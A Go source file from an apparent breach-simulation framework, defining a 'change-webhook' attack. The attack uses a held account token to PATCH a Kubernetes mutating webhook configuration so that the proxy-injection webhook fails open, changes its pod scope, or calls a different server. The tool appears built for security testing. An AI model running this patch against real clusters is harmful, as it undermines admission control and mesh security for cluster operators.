package attacks

import (
	"context"
	"errors"
	"maps"

	"github.com/meshbreach/meshbreach/attacker"
)

// ChangeWebhook has the parameters of change-webhook.
type ChangeWebhook struct {
	Submission
	// Name is that of the webhook's configuration, with blanks as in
	// read-interface. Its webhook is called injector.meshbreach.test.
	Name string `json:"name,omitempty" jsonschema:"required"`
	// Change is what is set in the webhook.
	Change map[string]any `json:"change,omitempty" jsonschema:"required"`
}

// Check refuses parameters that say too little.
func (p *ChangeWebhook) Check() error {
	return errors.Join(
		named("name", p.Name, "which webhook configuration is changed"),
		refuse(len(p.Change) == 0, "change has to be named: what is set in the webhook"),
		checkBlanks(p.Name), p.Submission.Check(),
	)
}

// hook is the one webhook of a configuration.
const hook = "injector.meshbreach.test"

func changeWebhook() attacker.Attack {
	return attacker.New("change-webhook", "Change the webhook that injects proxies into pods",
		`Uses an account's token to ask the platform's API to change the mutating webhook
that injects proxies into pods: whether it fails open, which pods it applies to,
or which server it calls. The attack succeeds if the API returns the webhook as
requested. The attack does not undo the change. The webhook's owner recreates
the webhook.`,
		func(ctx context.Context, f attacker.Foothold, t attacker.Target, nonce func() string, p ChangeWebhook, emit func(attacker.Observation)) error {
			name, err := fill(p.Name, t)
			if err != nil {
				return err
			}
			set := maps.Clone(p.Change)
			set["name"] = hook
			return p.submit(ctx, f, t, nonce(), apiObject{
				owner: p.owner(), path: "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/" + name, patch: true,
				body: map[string]any{"webhooks": []any{set}},
			}, emit)
		})
}
